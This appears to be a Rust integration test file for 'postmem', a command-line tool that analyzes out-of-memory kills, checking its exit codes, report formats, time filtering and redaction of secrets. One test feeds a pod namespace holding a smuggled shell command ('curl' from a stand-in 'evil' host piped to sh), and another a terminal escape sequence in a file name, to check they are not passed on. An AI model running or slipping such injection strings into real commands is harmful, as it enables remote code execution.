//! The program as a user meets it: commands, streams, exit codes, the page on the terminal.

use assert_cmd::Command;
use std::fs;
use tempfile::TempDir;

/// A kernel report as `journalctl -k -o short-iso` prints it: the least that makes a verdict.
const KERNEL: &str = "\
2026-11-02T10:00:00+00:00 n1 kernel: app invoked oom-killer: gfp_mask=0xcc0(GFP_KERNEL), order=0, oom_score_adj=984
2026-11-02T10:00:00+00:00 n1 kernel: memory: usage 262144kB, limit 262144kB, failcnt 12
2026-11-02T10:00:00+00:00 n1 kernel: oom-kill:constraint=CONSTRAINT_MEMCG,nodemask=(null),cpuset=/,mems_allowed=0,oom_memcg=/kubepods/burstable/podc3807ab1-5e04-47fd-bab9-34488d03f0ad/0a24adbf0ad2274ef0ab1c630aeb39564982c2e980618dc3ec60e6f36c926270,task_memcg=/kubepods/burstable/podc3807ab1-5e04-47fd-bab9-34488d03f0ad/0a24adbf0ad2274ef0ab1c630aeb39564982c2e980618dc3ec60e6f36c926270,task=app,pid=4711,uid=0
2026-11-02T10:00:00+00:00 n1 kernel: Memory cgroup out of memory: Killed process 4711 (app) total-vm:900000kB, anon-rss:250000kB, file-rss:1000kB, shmem-rss:0kB, UID:0 pgtables:800kB oom_score_adj:984
";

fn postmem() -> Command {
    let mut c = Command::new(env!("CARGO_BIN_EXE_postmem"));
    c.env_remove("NO_COLOR").env_remove("CLICOLOR_FORCE");
    c
}

fn bundle() -> TempDir {
    let dir = TempDir::new().unwrap();
    fs::write(dir.path().join("kern.log"), KERNEL).unwrap();
    dir
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8(bytes.to_vec()).unwrap()
}

#[test]
fn bare_form_is_analyze_and_the_page_fits_a_terminal() {
    let dir = bundle();
    let bare = postmem().arg(dir.path()).assert().code(0);
    let full = postmem().arg("analyze").arg(dir.path()).assert().code(0);
    assert_eq!(bare.get_output().stdout, full.get_output().stdout);
    let page = text(&bare.get_output().stdout);
    assert!(page.lines().count() <= 24, "{page}");
    assert!(page.lines().all(|l| l.chars().count() <= 80), "{page}");
    assert!(page.to_lowercase().contains("inconclusive"), "{page}");
    assert!(!page.contains('\u{1b}'), "no colour without a terminal");
    assert!(bare.get_output().stderr.is_empty(), "no progress without a terminal");
}

#[test]
fn every_output_of_one_run() {
    let dir = bundle();
    let out = TempDir::new().unwrap();
    let path = |name: &str| out.path().join(name);
    let mut c = postmem();
    c.arg("analyze").arg(dir.path()).arg("-q");
    for name in ["r.html", "r.md", "r.json", "r.txt"] {
        c.arg("-o").arg(path(name));
    }
    assert!(c.assert().code(0).get_output().stdout.is_empty(), "--quiet prints nothing");
    let doc: serde_json::Value = serde_json::from_slice(&fs::read(path("r.json")).unwrap()).unwrap();
    assert_eq!(doc["schema"], "postmem.report/1");
    assert_eq!(doc["kills"][0]["kind"], "memcg-container");
    assert_eq!(doc["kills"][0]["victim"]["pid"], 4711);
    assert_eq!(doc["kills"][0]["limit_bytes"], 262_144u64 * 1024);
    assert!(fs::read_to_string(path("r.html")).unwrap().starts_with("<!DOCTYPE html>"));
    assert!(fs::read_to_string(path("r.md")).unwrap().starts_with("# "));
}

#[test]
fn standard_input_and_standard_output() {
    let run = postmem().args(["analyze", "-", "-o", "json:-"]).write_stdin(KERNEL).assert().code(0);
    let doc: serde_json::Value = serde_json::from_slice(&run.get_output().stdout).unwrap();
    assert_eq!(doc["kills"].as_array().map(Vec::len), Some(1), "only the document is on standard output");
}

#[test]
fn exit_codes_are_the_documented_ones() {
    let dir = bundle();
    postmem().arg("analyze").arg(dir.path().join("missing")).assert().code(66);
    postmem().args(["analyze", "--no-such-flag"]).assert().code(2);
    postmem().arg("analyze").arg(dir.path()).args(["-o", "report.docx"]).assert().code(2);
    postmem().arg("analyze").arg(dir.path()).args(["-o", "/no/such/folder/r.json"]).assert().code(74);
    let junk = TempDir::new().unwrap();
    fs::write(junk.path().join("noise.bin"), [0u8, 159, 146, 150, 7, 7, 7]).unwrap();
    let out = junk.path().join("r.json");
    let run = postmem().arg("analyze").arg(junk.path().join("noise.bin")).arg("-o").arg(&out).assert().code(65);
    assert!(out.exists(), "the report is written all the same, and says why");
    assert!(text(&run.get_output().stderr).contains("could be read"));
}

#[test]
fn a_broken_neighbour_costs_nothing() {
    let dir = bundle();
    fs::write(dir.path().join("cut.zip"), b"PK\x03\x04 and then nothing").unwrap();
    fs::write(dir.path().join("empty.json"), b"").unwrap();
    let run = postmem().args(["analyze", "-o", "json:-"]).arg(dir.path()).assert().code(0);
    let doc: serde_json::Value = serde_json::from_slice(&run.get_output().stdout).unwrap();
    assert_eq!(doc["kills"].as_array().map(Vec::len), Some(1));
    let told: Vec<&str> = doc["coverage"].as_array().unwrap().iter().filter_map(|c| c["source"].as_str()).collect();
    assert!(told.iter().any(|s| s.contains("cut.zip")), "{told:?}");
}

#[test]
fn help_lists_what_is_built_and_nothing_else() {
    let help = text(&postmem().arg("--help").assert().code(0).get_output().stdout);
    for command in ["analyze", "diff", "inspect", "completions", "man"] {
        assert!(help.contains(command), "{help}");
    }
    for later in ["check", "batch", "collect", "explain"] {
        assert!(!help.lines().any(|l| l.trim_start().starts_with(later)), "{later} is not built");
    }
    postmem().args(["completions", "bash"]).assert().code(0);
    assert!(text(&postmem().arg("man").assert().code(0).get_output().stdout).contains(".TH"));
}

#[test]
fn secrets_in_logs_and_specifications_stay_inside() {
    let dir = bundle();
    let pod = serde_json::json!({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "api-0", "namespace": "shop", "uid": "c3807ab1-5e04-47fd-bab9-34488d03f0ad"},
        "spec": {"nodeName": "n1", "containers": [{"name": "app", "image": "x", "env": [{"name": "DB_PASSWORD", "value": "hunter2-very-secret"}, {"name": "NODE_OPTIONS", "value": "--max-old-space-size=384"}],
            "resources": {"limits": {"memory": "256Mi"}}}]},
        "status": {"phase": "Running", "containerStatuses": [{"name": "app", "restartCount": 1, "ready": true, "state": {"running": {"startedAt": "2026-11-02T10:00:02Z"}},
            "lastState": {"terminated": {"exitCode": 137, "reason": "OOMKilled", "startedAt": "2026-11-02T04:00:00Z", "finishedAt": "2026-11-02T10:00:00Z"}}}]}});
    fs::write(dir.path().join("pod.json"), serde_json::to_vec_pretty(&pod).unwrap()).unwrap();
    for kind in ["json", "html", "md", "txt"] {
        let run = postmem().args(["analyze", "-o", &format!("{kind}:-")]).arg(dir.path()).assert().code(0);
        let page = text(&run.get_output().stdout);
        assert!(!page.contains("hunter2-very-secret"), "{kind}");
        if kind == "json" {
            assert!(page.contains("--max-old-space-size=384"), "sizing flags stay readable");
            let doc: serde_json::Value = serde_json::from_str(&page).unwrap();
            assert_eq!(doc["kills"].as_array().map(Vec::len), Some(1), "kernel and status tell of one kill");
            assert_eq!(doc["kills"][0]["owner"]["pod"], "api-0");
        }
    }
}

#[test]
fn a_window_leaves_out_what_lies_outside() {
    let dir = bundle();
    let kills = |flag: &str, time: &str| {
        let run = postmem().args(["analyze", "-o", "json:-", flag, time]).arg(dir.path()).assert().code(0);
        let doc: serde_json::Value = serde_json::from_slice(&run.get_output().stdout).unwrap();
        doc["kills"].as_array().map(Vec::len)
    };
    assert_eq!(kills("--since", "2026-11-02T09:00:00Z"), Some(1));
    assert_eq!(kills("--since", "2026-11-03"), Some(0));
    assert_eq!(kills("--until", "2026-11-02T09:00:00Z"), Some(0));
    postmem().args(["analyze", "--since", "yesterday"]).arg(dir.path()).assert().code(2);
}

#[test]
fn a_focus_that_nothing_bears_is_a_usage_error_and_one_without_a_finding_says_so() {
    let story = concat!(env!("CARGO_MANIFEST_DIR"), "/samples/incidents/quote-desk/bundle");
    let wrong = postmem().args([story, "--focus", "frieght"]).assert().code(2);
    let said = text(&wrong.get_output().stderr);
    assert!(said.contains("frieght") && said.contains("freight"), "{said}");
    let right = postmem().args([story, "--focus", "freight/quote-api"]).assert().code(0);
    assert!(text(&right.get_output().stdout).contains("Application leak"));
    // A healthy pod beside it, known to the input.
    let dir = TempDir::new().unwrap();
    fs::write(dir.path().join("kern.log"), KERNEL).unwrap();
    let pod = r#"{"apiVersion":"v1","kind":"Pod","metadata":{"name":"calm-0","namespace":"quiet","uid":"11111111-2222-4333-8444-555555555555"},"spec":{"containers":[{"name":"c"}]},"status":{"phase":"Running"}}"#;
    fs::write(dir.path().join("pod.json"), pod).unwrap();
    let calm = postmem().arg(dir.path()).args(["--focus", "quiet"]).assert().code(0);
    assert!(text(&calm.get_output().stdout).contains("No finding of this input concerns quiet"), "{}", text(&calm.get_output().stdout));
}

/// Two class histograms in which a class is named like a connection string.
fn histograms(dir: &TempDir) -> [std::path::PathBuf; 2] {
    [(1, 100), (2, 9000)].map(|(n, count)| {
        let path = dir.path().join(format!("h{n}.txt"));
        let rows = format!(
            " num     #instances         #bytes  class name (module)\n-------------------------------------------------------\n   1:  {count:>12}  {:>12}  postgres://bob:hunter2xyz@db/prod\n   2:            10           240  java.lang.String\nTotal  {:>12}  {:>12}\n",
            count * 24,
            count + 10,
            count * 24 + 240
        );
        fs::write(&path, rows).unwrap();
        path
    })
}

#[test]
fn a_comparison_and_an_inventory_hide_what_a_report_hides() {
    let dir = TempDir::new().unwrap();
    let [before, after] = histograms(&dir);
    let labels = r#"{"status":"success","data":{"resultType":"matrix","result":[{"metric":{"__name__":"up","dsn":"postgres://bob:hunter2xyz@db"},"values":[[1793000000,"1"],[1793000030,"1"]]}]}}"#;
    fs::write(dir.path().join("up.json"), labels).unwrap();
    let mut shown = text(&postmem().arg("diff").args([&before, &after]).assert().code(0).get_output().stdout);
    assert!(shown.contains("▮▮▮"), "{shown}");
    for kind in ["json", "html", "md", "txt"] {
        let page = postmem().arg("diff").args([&before, &after]).args(["-o", &format!("{kind}:-")]).assert().code(0);
        shown.push_str(&text(&page.get_output().stdout));
    }
    shown.push_str(&text(&postmem().arg("inspect").arg(dir.path()).assert().code(0).get_output().stdout));
    assert!(!shown.contains("hunter2xyz"), "{}", shown.split("hunter2xyz").next().unwrap().chars().rev().take(200).collect::<String>());
    let asked = postmem().args(["diff", "--no-redact"]).args([&before, &after]).assert().code(0);
    assert!(text(&asked.get_output().stdout).contains("hunter2xyz"), "only who asks for it sees it");
    assert!(postmem().args(["diff", "-q"]).args([&before, &after]).assert().code(0).get_output().stdout.is_empty());
}

/// Two heap profiles of a Go program, as `/debug/pprof/heap?debug=1` prints them, with a function named like a connection string.
#[test]
fn no_output_of_a_comparison_shows_a_secret() {
    let dir = TempDir::new().unwrap();
    let [a, b] = [(1, 10), (2, 90)].map(|(n, count)| {
        let path = dir.path().join(format!("shop_cart-7d9f_app.{n}.heap.txt"));
        let rows = format!(
            "heap profile: {count}: {bytes} [{count}: {bytes}] @ heap/1048576\n{count}: {bytes} [{count}: {bytes}] @ 0x45ab01 0x45ab02\n#\t0x45ab00\tmain.open(postgres://bob:hunter2xyz@db/prod)+0x20\t/app/db.go:11\n#\t0x45ab01\tmain.main+0x20\t/app/main.go:3\n\n",
            bytes = count * 1_048_576
        );
        fs::write(&path, rows).unwrap();
        path
    });
    for kind in ["json", "html", "md", "txt", "svg", "pb.gz"] {
        let out = dir.path().join(format!("out.{kind}"));
        for (flag, seen) in [("-q", false), ("--no-redact", true)] {
            postmem().args(["diff", flag, "--top", "0"]).args([&a, &b]).args(["-o", &format!("{kind}:{}", out.display())]).assert().code(0);
            let mut bytes = fs::read(&out).unwrap();
            if kind == "pb.gz" {
                let mut raw = Vec::new();
                std::io::Read::read_to_end(&mut flate2::read::GzDecoder::new(&bytes[..]), &mut raw).unwrap();
                bytes = raw;
            }
            let found = String::from_utf8_lossy(&bytes).contains("hunter2xyz");
            assert_eq!(found, seen, "{kind} with {flag}");
        }
    }
    // The names that a path bears are hidden on request.
    let named = postmem().args(["diff", "--redact", "names", "--map", "*heap.txt=shop/cart-7d9f/app"]).args([&a, &b]).assert().code(0);
    assert!(!text(&named.get_output().stdout).contains("cart-7d9f"), "{}", text(&named.get_output().stdout));
}

#[test]
fn heap_strings_are_shown_by_a_comparison_only_to_who_asks() {
    let of = |n: u32| format!("{}/samples/formats/v8-heapsnapshot/leaks.t{n}.heapsnapshot.gz", env!("CARGO_MANIFEST_DIR"));
    let shown = |more: &[&str]| {
        let run = postmem().args(["diff", &of(0), &of(1), "-o", "json:-"]).args(more).assert().code(0);
        let doc: serde_json::Value = serde_json::from_slice(&run.get_output().stdout).unwrap();
        let top = doc["repeated_strings"]["top"].as_array().cloned().unwrap_or_default();
        assert!(!top.is_empty(), "{doc}");
        top.iter().any(|t| t["text"].is_string())
    };
    assert!(!shown(&[]));
    assert!(shown(&["--no-redact"]));
}

#[test]
fn a_focus_may_be_known_by_a_log_alone_and_one_snapshot_is_no_comparison() {
    let dir = TempDir::new().unwrap();
    let log = dir.path().join("cart.log");
    fs::write(&log, "2026-05-06T10:00:01Z ERROR boom\njava.lang.OutOfMemoryError: Java heap space\n").unwrap();
    let run = postmem().arg(&log).args(["--map", "*cart.log=shop/cart-7d9f/app", "--focus", "shop/cart-7d9f"]).assert();
    run.code(0);
    let snapshot = concat!(env!("CARGO_MANIFEST_DIR"), "/samples/formats/v8-heapsnapshot/leaks.t0.heapsnapshot.gz");
    let map = dir.path().join("app.js.map");
    fs::write(&map, r#"{"version":3,"sources":["a.ts"],"names":[],"mappings":"AAAA"}"#).unwrap();
    postmem().args(["diff", snapshot]).arg(&map).assert().code(2);
}

#[test]
fn commands_that_are_offered_run_as_they_are_printed() {
    let dir = TempDir::new().unwrap();
    fs::write(dir.path().join("kern.log"), KERNEL).unwrap();
    let run = postmem().arg(dir.path()).args(["-o", "json:-"]).assert().code(0);
    let said = text(&run.get_output().stdout);
    assert!(said.contains("kubectl get pods -A -o json") && !said.contains("kubectl -A"), "a flag of `get` stands behind it");
}

#[test]
fn a_zone_that_is_not_known_is_a_usage_error() {
    let dir = bundle();
    postmem().args(["--tz", "Europe/Berln"]).arg(dir.path()).assert().code(2);
    postmem().args(["analyze", "--tz", "Europe/Berln"]).arg(dir.path()).assert().code(2);
    postmem().args(["analyze", "--tz", "+05:30"]).arg(dir.path()).assert().code(0);
}

#[test]
fn names_from_a_bundle_do_not_act_on_a_terminal() {
    let dir = bundle();
    fs::write(dir.path().join("a\u{1b}]0;pwn\u{7}b.bin"), [0u8; 64]).unwrap();
    let run = postmem().arg("analyze").arg(dir.path()).args(["--focus", "no\u{1b}pe"]).assert().code(2);
    assert!(!text(&run.get_output().stderr).contains('\u{1b}'));
    let run = postmem().arg(dir.path()).assert().code(0);
    assert!(!text(&run.get_output().stderr).contains('\u{1b}') && !text(&run.get_output().stdout).contains('\u{1b}'));
}

#[test]
fn commands_that_a_bundle_could_write_are_not_offered() {
    let dir = TempDir::new().unwrap();
    let pod = |ns: &str| {
        serde_json::json!({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "web-1", "namespace": ns, "uid": "u1"},
            "spec": {"nodeName": "n1", "containers": [{"name": "app", "resources": {"limits": {"memory": "256Mi"}}}]},
            "status": {"phase": "Running", "containerStatuses": [{"name": "app", "restartCount": 3, "lastState": {"terminated":
                {"reason": "OOMKilled", "exitCode": 137, "startedAt": "2026-11-02T09:00:00Z", "finishedAt": "2026-11-02T10:00:00Z"}}}]}})
    };
    for (ns, offered) in [("shop", true), ("a;curl${IFS}evil|sh;", false)] {
        fs::write(dir.path().join("pod.json"), pod(ns).to_string()).unwrap();
        let page = text(&postmem().args(["analyze", "-o", "json:-"]).arg(dir.path()).assert().code(0).get_output().stdout);
        let doc: serde_json::Value = serde_json::from_str(&page).unwrap();
        let commands: Vec<&str> = doc["findings"]
            .as_array()
            .unwrap()
            .iter()
            .flat_map(|f| f["advice"].as_array().unwrap())
            .chain(doc["coverage"].as_array().unwrap())
            .filter_map(|a| a["command"].as_str())
            .collect();
        assert_eq!(commands.iter().any(|c| c.contains("shop")), offered, "{commands:?}");
        assert!(!commands.iter().any(|c| c.contains("evil")), "{commands:?}");
    }
}
